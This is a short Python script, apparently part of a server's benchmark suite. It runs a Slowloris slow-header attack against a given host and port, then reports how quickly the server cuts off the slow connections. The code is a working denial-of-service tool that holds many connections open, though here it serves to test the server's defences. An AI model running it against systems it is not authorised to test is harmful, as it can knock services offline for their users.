#!/usr/bin/env python3
"""Slowloris attacker for bench/run-slowloris.sh: CONNS connections to
HOST:PORT from SOURCE_IP, each sending a request head one byte a second and
reconnecting as soon as the server cuts it off, for SECS seconds. Prints one
JSON line: connections opened, how many the server cut off, the median and
max seconds a connection lived before the cut, and how many got an answer
(a slow head must never be answered)."""
import asyncio
import json
import statistics
import sys
import time

HEAD = b"GET /health/live HTTP/1.1\r\nhost: x\r\n" + b"x-slow: " + b"a" * 200 + b"\r\n\r\n"


async def one(host, port, source, deadline, stats):
    while time.monotonic() < deadline:
        started = time.monotonic()
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(0.2)
            continue
        stats["opened"] += 1
        cut = False
        try:
            for i in range(len(HEAD)):
                if time.monotonic() >= deadline:
                    break
                writer.write(HEAD[i:i + 1])
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(1024), timeout=1.0)
                except asyncio.TimeoutError:
                    continue
                if data:
                    stats["answered"] += 1
                cut = True
                break
        except (ConnectionError, OSError):
            cut = True
        if cut:
            stats["cut"] += 1
            stats["lived"].append(time.monotonic() - started)
        writer.close()


async def main():
    host, port, source, conns, secs = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    stats = {"opened": 0, "cut": 0, "answered": 0, "refused": 0, "lived": []}
    deadline = time.monotonic() + secs
    await asyncio.gather(*(one(host, port, source, deadline, stats) for _ in range(conns)))
    lived = stats.pop("lived")
    stats["median_lived_s"] = round(statistics.median(lived), 1) if lived else None
    stats["max_lived_s"] = round(max(lived), 1) if lived else None
    print(json.dumps(stats))


asyncio.run(main())
